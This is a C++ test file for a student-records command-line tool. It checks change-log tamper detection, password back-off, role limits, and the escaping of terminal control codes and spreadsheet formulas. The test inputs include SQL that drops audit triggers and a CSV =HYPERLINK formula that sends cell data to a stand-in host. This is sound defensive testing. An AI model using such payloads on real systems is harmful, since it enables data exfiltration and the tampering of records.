// SPDX-FileCopyrightText: 2026 DualDegree contributors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "CliRunner.h"
#include "TestSupport.h"

#include <catch2/catch.hpp>

#include <QProcess>
#include <QRegularExpression>

#include <memory>
#include <unistd.h>
#include <vector>

using namespace ddtest;

namespace {

/** Runs the sqlite3 shell on \a db: another SQL tool, behind the application's back. */
Run sqlite3(const QString& db, const QString& sql)
{
    QProcess p;
    p.start(QStringLiteral("sqlite3"), {db, sql});
    REQUIRE(p.waitForFinished(30000));
    return {p.exitCode(), QString::fromUtf8(p.readAllStandardOutput()), QString::fromUtf8(p.readAllStandardError())};
}

} // namespace

TEST_CASE("log verify passes on the demo and names a grade changed and a log row deleted in the sqlite3 shell",
          "[cli][changelog]")
{
    QTemporaryDir dir;
    const QString db = demoCopy(dir);
    const Run ok = cli({QStringLiteral("--db"), db, QStringLiteral("log"), QStringLiteral("verify")});
    INFO(ok.err.toStdString());
    REQUIRE(ok.exitCode == 0);
    CHECK(ok.out.contains(QLatin1String("the change log is complete and unaltered:")));
    // The copy (made by backup) carries its own chain head: nothing to note.
    CHECK_FALSE(ok.out.contains(QLatin1String("note:")));

    // The shell cannot change a grade or delete a log row while the triggers stand.
    const QString grade = QStringLiteral("UPDATE results SET mark = 'D' WHERE id = 5");
    Run shell = sqlite3(db, grade);
    CHECK(shell.exitCode != 0);
    CHECK(shell.err.contains(QLatin1String("no such function")));
    shell = sqlite3(db, QStringLiteral("DELETE FROM change_log WHERE seq = 42"));
    CHECK(shell.exitCode != 0);
    CHECK(shell.err.contains(QLatin1String("the change log cannot be altered")));

    // With the triggers dropped first, it can; log verify names all of it.
    shell = sqlite3(db,
                    QStringLiteral("DROP TRIGGER results_change_needs_reason; DROP TRIGGER change_log_results_update;"
                                   " DROP TRIGGER change_log_kept; %1; DELETE FROM change_log WHERE seq = 42;")
                        .arg(grade));
    INFO(shell.err.toStdString());
    REQUIRE(shell.exitCode == 0);
    const Run broken = cli({QStringLiteral("--db"), db, QStringLiteral("log"), QStringLiteral("verify")});
    CHECK(broken.exitCode == 1);
    CHECK(broken.out.contains(QLatin1String("the trigger change_log_kept is missing")));
    CHECK(broken.out.contains(QLatin1String("log row 43: log row(s) 42 missing before this one (deleted)")));
    CHECK(broken.out.contains(
        QRegularExpression(QStringLiteral("results #5: changed without being logged \\(mark: '[^']+' → 'D'\\)"))));
    CHECK(broken.err.startsWith(QLatin1String("dualdegree-cli: log verify: ")));
}

TEST_CASE("A user logs in with --user and the password from the environment — login can be required", "[cli][accounts]")
{
    QTemporaryDir dir;
    const QString db = demoCopy(dir);
    const QStringList asViewer = {QStringLiteral("--db"), db, QStringLiteral("--user"), QStringLiteral("viewer")};

    Run r = cli(asViewer + QStringList {QStringLiteral("check")}, loggedIn(QStringLiteral("viewer")));
    CHECK(r.exitCode == 0);
    QProcessEnvironment wrong = QProcessEnvironment::systemEnvironment();
    wrong.insert(QStringLiteral("DUALDEGREE_PASSWORD"), QStringLiteral("guess"));
    r = cli(asViewer + QStringList {QStringLiteral("check")}, wrong);
    CHECK(r.exitCode == 1);
    CHECK(r.err.trimmed() == QStringLiteral("dualdegree-cli: login refused: wrong user name or password"));

    // The viewer may read but not export or change.
    r = cli(asViewer
                + QStringList {QStringLiteral("export"), QStringLiteral("students"),
                               dir.filePath(QStringLiteral("s.csv")), QStringLiteral("--recipient"),
                               QStringLiteral("x"), QStringLiteral("--purpose"), QStringLiteral("y")},
            loggedIn(QStringLiteral("viewer")));
    CHECK(r.exitCode == 1);
    CHECK(r.err.contains(QLatin1String("viewer (viewer) may not export personal data")));
    CHECK_FALSE(QFile::exists(dir.filePath(QStringLiteral("s.csv"))));

    // The demo's administrator has no password: login cannot be required yet.
    r = cli(
        {QStringLiteral("--db"), db, QStringLiteral("user"), QStringLiteral("require-login"), QStringLiteral("on")});
    CHECK(r.exitCode == 1);
    CHECK(r.err.contains(QLatin1String("no administrator has a password")));
    // The administrator sets one and requires login; then no one acts without it.
    QProcessEnvironment admin = QProcessEnvironment::systemEnvironment();
    admin.insert(QStringLiteral("DUALDEGREE_NEW_PASSWORD"), QStringLiteral("the admin's own"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("user"), QStringLiteral("passwd"), QStringLiteral("admin")},
                admin)
                .exitCode
            == 0);
    admin.insert(QStringLiteral("DUALDEGREE_PASSWORD"), QStringLiteral("the admin's own"));
    REQUIRE(
        cli({QStringLiteral("--db"), db, QStringLiteral("user"), QStringLiteral("require-login"), QStringLiteral("on")},
            admin)
            .exitCode
        == 0);
    r = cli({QStringLiteral("--db"), db, QStringLiteral("check")});
    CHECK(r.exitCode == 1);
    CHECK(r.err.contains(QLatin1String("requires logging in")));
    r = cli({QStringLiteral("--db"), db, QStringLiteral("--user"), QStringLiteral("admin"), QStringLiteral("user"),
             QStringLiteral("list")},
            admin);
    CHECK(r.exitCode == 0);
    CHECK(r.out.contains(QLatin1String("login is required")));
    CHECK(r.out.contains(QLatin1String("cqupt.registrar\tcqupt_registrar\tactive\tpassword set")));
}

TEST_CASE("export students writes the file and records the disclosure", "[cli][disclosure]")
{
    QTemporaryDir dir;
    const QString db = demoCopy(dir);
    const QString file = dir.filePath(QStringLiteral("cohort2021.csv"));
    const QStringList base = {QStringLiteral("--db"), db, QStringLiteral("--user"), QStringLiteral("ruts.coordinator")};
    Run r = cli(base
                    + QStringList {QStringLiteral("export"), QStringLiteral("students"), file,
                                   QStringLiteral("--cohort"), QStringLiteral("2021")},
                loggedIn(QStringLiteral("ruts.coordinator")));
    CHECK(r.exitCode == 2);
    CHECK(r.err.contains(QLatin1String("--recipient and --purpose")));
    r = cli(base
                + QStringList {QStringLiteral("export"), QStringLiteral("students"), file, QStringLiteral("--cohort"),
                               QStringLiteral("2021"), QStringLiteral("--recipient"), QStringLiteral("Thai embassy"),
                               QStringLiteral("--purpose"), QStringLiteral("visa renewal")},
            loggedIn(QStringLiteral("ruts.coordinator")));
    INFO(r.err.toStdString());
    REQUIRE(r.exitCode == 0);
    const QStringList lines = QString::fromUtf8(readFile(file)).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    CHECK(lines.first().startsWith(QLatin1String("student_id,cqupt_no,ruts_no")));
    CHECK(lines.size() > 1);
    CHECK(r.out.contains(QStringLiteral("wrote %1 students").arg(lines.size() - 1)));

    const QString someone = lines.at(1).section(QLatin1Char(','), 0, 0);
    r = cli({QStringLiteral("--db"), db, QStringLiteral("log"), QStringLiteral("disclosures"),
             QStringLiteral("--student"), someone});
    CHECK(r.exitCode == 0);
    CHECK(r.out.contains(QLatin1String("ruts.coordinator  students.csv  to: Thai embassy  purpose: visa renewal")));
    CHECK(r.out.contains(QLatin1String("file: cohort2021.csv")));
}

TEST_CASE("Attack: the administrator's password is asked for even where login is not required", "[cli][attack]")
{
    QTemporaryDir dir;
    const QString db = dir.filePath(QStringLiteral("single.db"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("init")}).exitCode == 0);
    // A single-user database: no password, no question.
    CHECK(cli({QStringLiteral("--db"), db, QStringLiteral("check")}).exitCode == 0);
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.remove(QStringLiteral("DUALDEGREE_PASSWORD"));
    env.insert(QStringLiteral("DUALDEGREE_NEW_PASSWORD"), QStringLiteral("the admin's own"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("user"), QStringLiteral("passwd"), QStringLiteral("admin")},
                env)
                .exitCode
            == 0);
    // Now nobody changes it, or does anything else, as admin without it.
    env.insert(QStringLiteral("DUALDEGREE_NEW_PASSWORD"), QStringLiteral("taken over"));
    Run r = cli({QStringLiteral("--db"), db, QStringLiteral("user"), QStringLiteral("passwd"), QStringLiteral("admin")},
                env);
    CHECK(r.exitCode == 1);
    CHECK(r.err.contains(QLatin1String("a password is needed")));
    env.insert(QStringLiteral("DUALDEGREE_PASSWORD"), QStringLiteral("a guess at it"));
    r = cli({QStringLiteral("--db"), db, QStringLiteral("user"), QStringLiteral("passwd"), QStringLiteral("admin")},
            env);
    CHECK(r.exitCode == 1);
    CHECK(r.err.contains(QLatin1String("wrong user name or password")));
    env.insert(QStringLiteral("DUALDEGREE_PASSWORD"), QStringLiteral("the admin's own"));
    r = cli({QStringLiteral("--db"), db, QStringLiteral("check")}, env);
    INFO(r.err.toStdString());
    CHECK(r.exitCode == 0);
}

TEST_CASE("Attack: 16 guesses at once are not all checked before the back-off", "[cli][attack][slow]")
{
    QTemporaryDir dir;
    const QString db = demoCopy(dir);
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("DUALDEGREE_PASSWORD"), QStringLiteral("a wrong guess"));
    std::vector<std::unique_ptr<QProcess>> guesses;
    for (int i = 0; i < 16; ++i) {
        guesses.push_back(std::make_unique<QProcess>());
        guesses.back()->setProcessEnvironment(env);
        guesses.back()->setChildProcessModifier([] { ::setsid(); });
        guesses.back()->start(QStringLiteral(DD_CLI_PATH),
                              {QStringLiteral("--db"), db, QStringLiteral("--user"), QStringLiteral("cqupt.registrar"),
                               QStringLiteral("check")});
    }
    int checked = 0;
    int heldBack = 0;
    for (const std::unique_ptr<QProcess>& p : guesses) {
        REQUIRE(p->waitForFinished(60000));
        CHECK(p->exitCode() == 1);
        const QString err = QString::fromUtf8(p->readAllStandardError());
        checked += err.contains(QLatin1String("wrong user name or password")) ? 1 : 0;
        heldBack += err.contains(QLatin1String("try again in")) ? 1 : 0;
    }
    INFO(checked << " checked, " << heldBack << " held back");
    // Three wrong passwords are allowed before the first wait; the rest wait without a check.
    CHECK(checked <= 3);
    CHECK(checked + heldBack == 16);
}

TEST_CASE("Attack: a viewer can neither attach evidence nor read passports and birth dates in the log",
          "[cli][attack][roles]")
{
    QTemporaryDir dir;
    const QString db = demoCopy(dir);
    const QStringList asViewer = {QStringLiteral("--db"), db, QStringLiteral("--user"), QStringLiteral("viewer")};
    const QString syllabus = dir.filePath(QStringLiteral("syllabus.pdf"));
    ddtest::writeFile(syllabus, QByteArray("%PDF-1.4 a syllabus"));
    const int evidence = countRows(db, QStringLiteral("equivalency_evidence"));
    Run r = cli(
        asViewer
            + QStringList {QStringLiteral("equivalency"), QStringLiteral("evidence"), QStringLiteral("1"), syllabus},
        loggedIn(QStringLiteral("viewer")));
    CHECK(r.exitCode == 1);
    CHECK(r.err.contains(QLatin1String("viewer (viewer) may not")));
    CHECK(countRows(db, QStringLiteral("equivalency_evidence")) == evidence);

    // A student's passport and date of birth are corrected: the log holds both, before and after.
    const QString file = dir.filePath(QStringLiteral("students.csv"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("students"), file,
                 QStringLiteral("--cohort"), QStringLiteral("2020"), QStringLiteral("--recipient"),
                 QStringLiteral("the registry"), QStringLiteral("--purpose"), QStringLiteral("a correction")})
                .exitCode
            == 0);
    QStringList lines = QString::fromUtf8(ddtest::readFile(file)).split(QLatin1Char('\n'), Qt::SkipEmptyParts);
    const QStringList header = lines.first().split(QLatin1Char(','));
    const int passportColumn = int(header.indexOf(QStringLiteral("passport_no")));
    const int bornColumn = int(header.indexOf(QStringLiteral("date_of_birth")));
    REQUIRE(passportColumn > 0);
    QString oldPassport;
    QString oldBorn;
    for (QString& line : lines) {
        if (line.startsWith(QLatin1String("DD2020001,"))) {
            QStringList fields = line.split(QLatin1Char(','));
            oldPassport = fields.at(passportColumn);
            oldBorn = fields.at(bornColumn);
            fields[passportColumn] = QStringLiteral("ZX9988776");
            fields[bornColumn] = QStringLiteral("2001-12-30");
            line = fields.join(QLatin1Char(','));
        }
    }
    REQUIRE_FALSE(oldPassport.isEmpty());
    ddtest::writeFile(file, lines.join(QLatin1Char('\n')).toUtf8() + "\n");
    Run imported = cli({QStringLiteral("--db"), db, QStringLiteral("import"), QStringLiteral("students"), file,
                        QStringLiteral("--reason"), QStringLiteral("passport renewed")});
    INFO(imported.err.toStdString());
    REQUIRE(imported.exitCode == 0);

    const QStringList history
        = {QStringLiteral("log"), QStringLiteral("show"), QStringLiteral("--student"), QStringLiteral("DD2020001")};
    const Run full = cli(QStringList {QStringLiteral("--db"), db} + history);
    REQUIRE(full.exitCode == 0);
    CHECK(full.out.contains(QLatin1String("ZX9988776")));
    CHECK(full.out.contains(oldPassport));
    for (const QStringList& call : {history, QStringList {QStringLiteral("log"), QStringLiteral("show")}}) {
        r = cli(asViewer + call, loggedIn(QStringLiteral("viewer")));
        REQUIRE(r.exitCode == 0);
        CHECK(r.out.contains(QLatin1String("update students #")));
        for (const QString& secret :
             {oldPassport, QStringLiteral("ZX9988776"), oldBorn, QStringLiteral("2001-12-30")}) {
            INFO(secret.toStdString());
            CHECK_FALSE(r.out.contains(secret));
        }
    }
}

TEST_CASE("Attack: terminal escapes and line breaks in stored text are printed escaped", "[cli][attack][unicode]")
{
    QTemporaryDir dir;
    const QString db = demoCopy(dir);
    const QString escape = QStringLiteral("Embassy\x1b[2J\x1b]0;owned\x07");
    const QString twoLines = QStringLiteral("visa\n     1  2026-01-01T00:00:00.000Z  admin  delete students #1");
    Run r = cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("students"),
                 dir.filePath(QStringLiteral("s.csv")), QStringLiteral("--recipient"), escape,
                 QStringLiteral("--purpose"), twoLines});
    if (r.exitCode == 0) {
        // Accepted as typed: then it must come out harmless.
        r = cli({QStringLiteral("--db"), db, QStringLiteral("log"), QStringLiteral("disclosures")});
        REQUIRE(r.exitCode == 0);
        CHECK_FALSE(r.out.contains(QChar(0x1b)));
        CHECK_FALSE(r.out.contains(QChar(0x07)));
        CHECK(r.out.count(QLatin1Char('\n')) == 1);
        CHECK(r.out.contains(QLatin1String("Embassy\\x1b[2J")));
        CHECK(r.out.contains(QLatin1String("visa\\n")));
    } else {
        CHECK(r.err.contains(QLatin1String("control character")));
        CHECK_FALSE(r.err.contains(QChar(0x1b)));
    }
    // A display name reaches user list and the change log.
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert(QStringLiteral("DUALDEGREE_NEW_PASSWORD"), QStringLiteral("a long password"));
    r = cli({QStringLiteral("--db"), db, QStringLiteral("user"), QStringLiteral("add"), QStringLiteral("clerk"),
             QStringLiteral("--role"), QStringLiteral("viewer"), QStringLiteral("--name"),
             QStringLiteral("Clerk\x1b[31m\r\tred")},
            env);
    for (const QStringList& call : {QStringList {QStringLiteral("user"), QStringLiteral("list")},
                                    QStringList {QStringLiteral("log"), QStringLiteral("show")}}) {
        const Run shown = cli(QStringList {QStringLiteral("--db"), db} + call);
        CHECK_FALSE(shown.out.contains(QChar(0x1b)));
        CHECK_FALSE(shown.out.contains(QLatin1Char('\r')));
        CHECK_FALSE(shown.err.contains(QChar(0x1b)));
    }
    CHECK_FALSE(r.err.contains(QChar(0x1b)));
}

TEST_CASE("Attack: a formula in a name is exported neutralised, and the export still imports", "[cli][attack][csv]")
{
    QTemporaryDir dir;
    const QString db = demoCopy(dir);
    const QString students = dir.filePath(QStringLiteral("new.csv"));
    ddtest::writeFile(students,
                      QByteArray("student_id,cqupt_no,ruts_no,family_name,given_name,name_zh,name_th,"
                                 "date_of_birth,nationality,passport_no,email,cohort,status\n"
                                 "DD2099001,,,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\","
                                 "+SUM(1),,,2004-01-01,TH,AA1,,2020,active\n"
                                 "DD2099002,,,@cmd,-2+3,,,2004-01-02,TH,AA2,,2020,active\n"));
    Run r = cli({QStringLiteral("--db"), db, QStringLiteral("import"), QStringLiteral("students"), students});
    INFO(r.err.toStdString());
    REQUIRE(r.exitCode == 0);
    const QString out = dir.filePath(QStringLiteral("out.csv"));
    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("students"), out,
                 QStringLiteral("--cohort"), QStringLiteral("2020"), QStringLiteral("--recipient"),
                 QStringLiteral("the registry"), QStringLiteral("--purpose"), QStringLiteral("a check")})
                .exitCode
            == 0);
    const QByteArray csv = ddtest::readFile(out);
    // No cell starts a formula: each such cell begins with one apostrophe.
    CHECK(csv.contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\""));
    CHECK(csv.contains(",'+SUM(1),"));
    CHECK(csv.contains(",'@cmd,'-2+3,"));
    for (const QByteArray& line : csv.split('\n')) {
        for (const QByteArray& cell : line.split(',')) {
            CHECK_FALSE((cell.startsWith('=') || cell.startsWith('+') || cell.startsWith('@')));
        }
    }
    // The export imports back unchanged: exactly one apostrophe is taken off again.
    r = cli({QStringLiteral("--db"), db, QStringLiteral("import"), QStringLiteral("students"), out,
             QStringLiteral("--dry-run")});
    INFO(r.out.toStdString() << r.err.toStdString());
    CHECK(r.exitCode == 0);
    CHECK(r.out.contains(QLatin1String("0 would be added, 0 would change")));
}
